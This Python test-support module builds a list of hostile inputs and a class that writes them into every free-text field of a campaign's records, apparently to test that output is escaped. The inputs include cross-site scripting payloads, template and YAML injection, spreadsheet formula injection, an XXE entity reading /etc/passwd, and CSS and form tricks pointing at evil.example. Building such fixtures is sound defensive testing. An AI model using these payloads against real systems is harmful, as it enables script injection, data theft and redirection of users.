"""Words of somebody who means harm, and a campaign with such words in every field that takes free text."""

from __future__ import annotations

import dataclasses
import importlib
import pkgutil
from collections.abc import Iterator, Mapping
from itertools import cycle
from typing import Any

from pydantic import BaseModel

import schema.records
from schema.fields import fields_of
from schema.filed import Filed
from schema.records.base import Record, Row

EVIL = "https://evil.example"
RUN = "window.evil=1"

STRINGS: dict[str, tuple[str, ...]] = {
    "script": (
        f"<script>{RUN}</script>",
        f"</title><script>{RUN}</script>",
        f"</textarea></style></script><script>{RUN}//",
        f"<scr<script>ipt>{RUN}</scr</script>ipt>",
        f"<script src={EVIL}/a.js></script>",
        f"<script type=module>import '{EVIL}/b.js';{RUN}</script>",
    ),
    "event attribute": (
        f"<img src=x onerror={RUN}>",
        f"\" onmouseover=\"{RUN}\" autofocus onfocus=\"{RUN}\" x=\"",
        f"' onpointerenter='{RUN}' style='animation:x' onanimationstart='{RUN}'",
        f"<details open ontoggle={RUN}>",
        f"<body onload={RUN}>",
        f"<input autofocus onfocus={RUN}>",
    ),
    "address that runs": (
        f"<a href=javascript:{RUN}>点这里</a>",
        f"[点这里](javascript:{RUN})",
        f"[点](<java&#115;cript:{RUN}>)",
        f"<javascript:{RUN}>",
        f"[x]: javascript:{RUN}",
        f"JaVaScRiPt:{RUN}",
    ),
    "address with data": (
        f"[点](data:text/html,<script>{RUN}</script>)",
        "<iframe src=\"data:text/html;base64,PHNjcmlwdD50b3AuZXZpbD0xPC9zY3JpcHQ+\"></iframe>",
        f"<object data=\"data:text/html,<script>{RUN}</script>\"></object>",
        f"vbscript:{RUN}",
    ),
    "picture": (
        f"<svg onload={RUN}><script>{RUN}</script></svg>",
        f"<svg><a xlink:href=javascript:{RUN}><text>点</text></a></svg>",
        f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
        f"<svg><use href=\"{EVIL}/a.svg#x\"/></svg>",
        f"![x]({EVIL}/a.png)",
    ),
    "formula of mathematics": (
        f"<math><mtext><script>{RUN}</script></mtext></math>",
        f"<math href=javascript:{RUN}>点</math>",
        f"$$\\href{{javascript:{RUN}}}{{x}}$$",
    ),
    "template": (
        "{{ 7*7 }}{{ config.__class__.__init__.__globals__ }}",
        "{% raw %}{% for x in range(9) %}a{% endfor %}",
        "{# x #}{%- include '404.html' -%}",
        "{{ super() }}${7*7}<%= 7*7 %>#{7*7}",
    ),
    "front matter": (
        "---\ntitle: x\ntemplate: 404.html\n---\n",
        "x\"\nhide: []\ndemo: false\n# ",
        "--- demo: false --- title: {x: y}",
        "!!python/object/apply:os.system ['true']",
    ),
    "Markdown": (
        "```html\n</div></article></main>\n",
        "# 假标题 {: onclick=alert(1) #content }",
        "[x](x){: target=_blank onclick=alert(1) }",
        "| a | b |\n|---|---|\n| <b> | </table> |",
        "\n\n    <script>window.evil=1</script>\n\n",
        "<!-- --!> --><!--> <script>window.evil=1</script> -->",
    ),
    "order of writing": (
        "甲\u202e乙丙\u202c丁",
        "\u2066\u2067甲乙\u2069",
        "零\u200b宽\ufeff字\u2060符\u200f",
    ),
    "formula of a table": (
        "=cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        f"+HYPERLINK(\"{EVIL}\",\"x\")",
        "-2+3+cmd|' /C calc'!A0",
        "\t=1+1",
    ),
    "end of feed, JSON or XML": (
        f"]]><script>{RUN}</script><![CDATA[",
        "</description></item><item><title>假</title>",
        "\u2028\u2029\\u0000&#0;&#x0;",
        "\"}],\"x\":[{\"y\":\"</script><!--",
        "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;",
    ),
    "very long word": ("長" * 90, "W" * 90, "a.b/" * 24),
    "style": (
        f"<style>*{{display:none!important;background:url({EVIL}/c)}}</style>",
        "\" style=\"position:fixed;inset:0;z-index:9999;background:red",
        f"<link rel=stylesheet href={EVIL}/d.css>",
        f"<meta http-equiv=refresh content=\"0;url={EVIL}\"><base href={EVIL}/>",
        f"</main></body><form action={EVIL}><button>交</button></form>",
    ),
}  # fmt: skip
"""The words by kind."""

REFERENCES = frozenset({"announcement", "path", "file"})
"""Free text that names a file or a case and is looked up: other words there would find nothing to show."""


def free_fields() -> set[tuple[str, str]]:
    """Record and field of all free text that may be filed."""
    models = set()
    for module in pkgutil.iter_modules(schema.records.__path__):
        found = vars(importlib.import_module(f"schema.records.{module.name}")).values()
        models |= {kind for kind in found if isinstance(kind, type) and issubclass(kind, (Record, Row))}
    return {
        (model.__name__, field.name)
        for model in models - {Record, Row}
        for field in fields_of(model).values()
        if field.is_free_text and field.name not in REFERENCES
    }


class Poison:
    """Puts hostile words into every free field of a campaign, one after the other; ``poisoned`` says into which."""

    def __init__(self) -> None:
        self._words = cycle([text for texts in STRINGS.values() for text in texts])
        self.poisoned: set[tuple[str, str]] = set()
        self.used: set[str] = set()

    def word(self) -> str:
        """The next hostile words."""
        word = next(self._words)
        self.used.add(word)
        return word

    def into(self, value: Any) -> Any:
        """A value, all free text in it replaced."""
        if isinstance(value, BaseModel):
            parts = {name: self.into(getattr(value, name)) for name in type(value).model_fields}
            return value.model_copy(update={**parts, **dict(self._free(value))})
        if dataclasses.is_dataclass(value) and not isinstance(value, type):
            parts = {f.name: self.into(getattr(value, f.name)) for f in dataclasses.fields(value) if f.init}
            if isinstance(value, Filed) and value.body:
                parts["body"] = "\n\n".join([value.body, *(self.word() for _ in range(20))])
            return dataclasses.replace(value, **{**parts, **dict(self._free(value))})
        if isinstance(value, tuple):
            return tuple(self.into(part) for part in value)
        if isinstance(value, Mapping):
            return {key: self.into(part) for key, part in value.items()}
        return value

    def _free(self, value: Any) -> Iterator[tuple[str, Any]]:
        """The free fields of a record or row, with hostile words."""
        if not isinstance(value, (Record, Row)):
            return
        for name, field in fields_of(type(value)).items():
            if not field.is_free_text or name in REFERENCES:
                continue
            self.poisoned.add((type(value).__name__, name))
            before = getattr(value, name)
            yield name, tuple(self.word() for _ in before) if isinstance(before, tuple) else self.word()
